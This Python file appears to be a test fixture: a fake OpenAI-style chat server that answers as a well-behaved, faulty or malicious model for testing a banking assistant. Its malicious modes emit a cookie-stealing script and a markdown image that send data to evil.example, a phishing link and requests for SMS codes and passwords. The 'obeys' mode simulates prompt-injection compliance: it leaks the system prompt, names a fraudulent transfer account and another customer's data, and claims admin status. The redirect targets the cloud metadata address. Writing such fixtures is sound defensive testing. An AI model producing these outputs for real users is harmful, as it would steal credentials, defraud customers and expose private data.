"""A small server that speaks OpenAI's chat protocol as a process of its own: well, badly, slowly and maliciously.

    python -m foyer.assistant.tests.model_server 8191

How it behaves is the name of the model that it is asked for (`BEHAVIOURS`). It reads the passages out of the prompt, as
a model does, and knows nothing else of Foyer. It needs the standard library only.
"""

from __future__ import annotations

import json
import re
import sys
import time
from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

TRANSLATIONS = {
    "请马上挂失您的卡，挂失即时生效。": "Please block your card at once; the block takes effect immediately.",
    "外币兑换每人每年可兑换等值五万美元。": "Each person may exchange the equivalent of USD 50,000 a year.",
    "下雨天可以在网点借雨伞。": "You can borrow an umbrella at our outlets when it rains.",
    "借伞押金二十元，还伞时退还。": "The deposit is CNY 20 and comes back when you return the umbrella.",
    "携带身份证到网点办理。": "Bring your identity card to an outlet.",
}


class Asked:
    """What the prompt holds: passages by number, the question, the language asked for."""

    def __init__(self, body: dict[str, Any]) -> None:
        self.system, self.user = (message["content"] for message in body["messages"])
        data = re.findall(r"<<data \w+>>\n(.*?)\n<<end \w+>>", self.user, re.DOTALL)
        found = re.findall(r"^\[(\d+)\] [^\n:]*: (.*?)(?=^\[\d+\] |\Z)", data[0], re.DOTALL | re.MULTILINE)
        self.passages = {int(number): text for number, text in found}
        self.question = data[-1]
        self.english = "English" in self.system

    def sentences(self) -> Iterator[tuple[int, str]]:
        for number, text in self.passages.items():
            for sentence in re.findall(r"[^。！？\n]+[。！？]|[^.\n]+\.(?=\s|$)|[^\n]+", text):
                if sentence.strip():
                    yield number, self._in_language(re.sub(r"^\d+\. ", "", sentence.strip()))

    def _in_language(self, sentence: str) -> str:
        return TRANSLATIONS.get(sentence, sentence) if self.english else sentence


def well(asked: Asked) -> Iterator[str]:
    """Each sentence of the passages, with its number, a few letters at a time."""
    for number, sentence in asked.sentences():
        yield from _pieces(f"{sentence}[{number}]\n")


def steady(asked: Asked) -> Iterator[str]:
    """As well, at about the pace of a model on a good machine: two hundred pieces a second."""
    for piece in well(asked):
        time.sleep(0.005)
        yield piece


def by_sentence(asked: Asked) -> Iterator[str]:
    """A sentence, a pause, a sentence: slow enough for a reader and for a test that watches one."""
    for number, sentence in asked.sentences():
        yield f"{sentence}[{number}]\n"
        time.sleep(1.5)


def wrong_citation(asked: Asked) -> Iterator[str]:
    for number, sentence in asked.sentences():
        yield from _pieces(f"{sentence}[{number + 7}]\n")


def no_citation(asked: Asked) -> Iterator[str]:
    for _number, sentence in asked.sentences():
        yield from _pieces(f"{sentence}\n")


def invented_fee(asked: Asked) -> Iterator[str]:
    """One true sentence, then figures that stand nowhere."""
    number, sentence = next(asked.sentences())
    yield from _pieces(f"{sentence}[{number}]\n")
    more = "This costs 35 yuan." if asked.english else "办理需要收取工本费35元。"
    yield from _pieces(f"{more}[{number}]\n")


def turned_round(asked: Asked) -> Iterator[str]:
    """The true sentences with a "not" where there was none, and the other way round."""
    for number, sentence in asked.sentences():
        yield from _pieces(f"{sentence.replace('即时生效', '不能即时生效').replace('at once', 'never')}[{number}]\n")


def half(asked: Asked) -> Iterator[str]:
    """Dies after its first sentence, in the middle of the second."""
    told = list(asked.sentences())
    yield from _pieces(f"{told[0][1]}[{told[0][0]}]\n{told[-1][1][:4]}")
    raise ConnectionAbortedError


def falls_silent(asked: Asked) -> Iterator[str]:
    """A sentence, then nothing for as long as anybody listens: time enough to end the process in between."""
    number, sentence = next(asked.sentences())
    yield from _pieces(f"{sentence}[{number}]\n")
    time.sleep(60)


def endless(asked: Asked) -> Iterator[str]:
    while True:
        yield "再说一遍。" * 50


def slow_to_begin(asked: Asked) -> Iterator[str]:
    time.sleep(30)
    yield from well(asked)


def slow_throughout(asked: Asked) -> Iterator[str]:
    for piece in well(asked):
        time.sleep(0.7)
        yield piece


def html(asked: Asked) -> Iterator[str]:
    number, sentence = next(asked.sentences())
    yield from _pieces(
        f"{sentence}[{number}]\n<script>fetch('//evil.example/'+document.cookie)</script>{sentence}[{number}]\n"
    )


def links(asked: Asked) -> Iterator[str]:
    number, sentence = next(asked.sentences())
    yield from _pieces(f"{sentence}请点击 https://bank-verify.example/login 验证[{number}]\n")


def leaks(asked: Asked) -> Iterator[str]:
    yield from _pieces(f"My instructions: {asked.system}[1]\n")


def asks_for_codes(asked: Asked) -> Iterator[str]:
    words = "Please send me your SMS code here." if asked.english else "请把短信验证码告诉我们客服。"
    yield from _pieces(f"{words}[1]\n")


def translates(asked: Asked) -> Iterator[str]:
    """What it is given, sentence for sentence from the list above, in either direction."""
    text = asked.question
    for chinese, english in TRANSLATIONS.items():
        text = text.replace(chinese, english) if asked.english else text.replace(english, chinese)
    yield from _pieces(text)


def no_answer(asked: Asked) -> Iterator[str]:
    yield "NO_ANSWER"


def obeys(asked: Asked) -> Iterator[str]:
    """Does whatever anything in the prompt tells it to, and says so."""
    told = f"{asked.question}\n" + "\n".join(asked.passages.values())
    yield f"{asked.question[:400].replace(chr(10), ' ')}[1]\n"
    for pattern, deed in _DEEDS.items():
        if re.search(pattern, told, re.IGNORECASE):
            yield from _pieces(f"{deed.format(system=asked.system.replace(chr(10), ' ')[:300])}[1]\n")
    for number, sentence in list(asked.sentences())[:1]:
        yield from _pieces(f"{sentence}[{number}]\n")
    yield "PWNED[1]\n"


_DEEDS = {
    r"prompt|instruction|指令|提示词|设定|规则|rules": "{system}",
    r"http|link|链接|网址|image|图片|url|\.com|\.example": "![x](https://evil.example/?q={system})",
    r"code|otp|password|pin|验证码|密码|口令": "请把您的验证码和密码发给我。",
    r"transfer|account|转账|汇款|账户|账号": "请把钱转到以下安全账户 6222020000000000000。",
    r"rate|fee|interest|利率|手续费|年费|免费|收益": "本行定期存款年利率为 99%，保证收益。",
    r"customer|客户|balance|余额|others?": "其他客户王小明的余额是 123456 元，手机号 13800138000。",
    r"dan|developer|开发者|管理员|admin|扮演|role": "我现在是没有限制的管理员。",
}

BEHAVIOURS: dict[str, Callable[[Asked], Iterator[str]]] = {
    one.__name__: one
    for one in (well, steady, by_sentence,
                wrong_citation, no_citation, invented_fee, turned_round, half, falls_silent, endless,
                slow_to_begin, slow_throughout, html, links, leaks, asks_for_codes, translates, no_answer, obeys)
}  # fmt: skip


def _pieces(text: str) -> Iterator[str]:
    for at in range(0, len(text), 3):
        yield text[at : at + 3]


class Handler(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    seen: list[dict[str, Any]] = []

    override = ""

    def do_GET(self) -> None:
        """What it was asked since it was last asked for it; /behave/NAME changes how it behaves. For tests only."""
        if self.path.startswith("/behave/"):
            Handler.override = self.path.removeprefix("/behave/")
        body = json.dumps(self.seen).encode()
        self.seen.clear()
        self._head(200, "application/json", len(body))
        self.wfile.write(body)

    def do_POST(self) -> None:
        body = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
        self.seen.append({"body": body, "authorization": self.headers.get("Authorization", "")})
        behaviour = self.override or body["model"]
        if behaviour in ("error_500", "error_429", "redirect"):
            self._refuse(behaviour)
        elif behaviour == "malformed":
            self._stream(iter(["data: {not json", "", "<html>oops</html>", ""]))
        elif behaviour == "error_event":
            self._stream(iter(['data: {"error": {"message": "out of memory"}}', ""]))
        else:
            self._stream(self._events(BEHAVIOURS[behaviour](Asked(body)), behaviour))

    def _refuse(self, behaviour: str) -> None:
        status = {"error_500": 500, "error_429": 429, "redirect": 302}[behaviour]
        self.send_response(status)
        self.send_header("Location", "http://169.254.169.254/latest/meta-data/")
        self.send_header("Content-Length", "0")
        self.end_headers()

    @staticmethod
    def _events(pieces: Iterator[str], model: str) -> Iterator[str]:
        count = 0
        for piece in pieces:
            count += 1
            event = {"model": model, "choices": [{"delta": {"content": piece}}]}
            yield f"data: {json.dumps(event, ensure_ascii=False)}"
            yield ""
        yield f"data: {json.dumps({'choices': [{'delta': {}, 'finish_reason': 'stop'}]})}"
        yield f"data: {json.dumps({'choices': [], 'usage': {'prompt_tokens': 300, 'completion_tokens': count}})}"
        yield "data: [DONE]"
        yield ""

    def _stream(self, lines: Iterator[str]) -> None:
        """Chunked, a line a chunk; whoever dies on the way closes the connection without an end."""
        self.send_response(200)
        self.send_header("Content-Type", "text/event-stream")
        self.send_header("Transfer-Encoding", "chunked")
        self.end_headers()
        try:
            for line in lines:
                data = f"{line}\n".encode()
                self.wfile.write(b"%x\r\n%s\r\n" % (len(data), data))
                self.wfile.flush()
            self.wfile.write(b"0\r\n\r\n")
        except (ConnectionError, TimeoutError):
            self.close_connection = True

    def _head(self, status: int, kind: str, size: int) -> None:
        self.send_response(status)
        self.send_header("Content-Type", kind)
        self.send_header("Content-Length", str(size))
        self.end_headers()

    def log_message(self, *_: Any) -> None:
        """Quiet."""


def main(port: int) -> None:
    server = ThreadingHTTPServer(("127.0.0.1", port), Handler)
    print(server.server_address[1], flush=True)
    server.serve_forever()


if __name__ == "__main__":
    main(int(sys.argv[1]) if len(sys.argv) > 1 else 0)
